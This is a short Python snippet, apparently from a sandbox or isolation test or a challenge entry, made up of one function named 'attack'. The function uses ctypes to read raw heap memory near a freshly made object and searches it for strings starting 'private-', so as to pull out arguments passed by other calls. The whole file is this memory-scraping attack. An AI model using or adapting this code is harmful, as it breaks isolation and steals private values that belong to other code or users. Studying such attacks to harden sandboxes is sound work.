# Searches the heap for the arguments of other calls.
import ctypes


def attack(n):
    start = id([]) & ~0xFFFFF
    room = ctypes.string_at(start, 0x100000)
    place = room.find(b"private-")
    return room[place : place + 60].decode("latin-1") if place >= 0 else ""
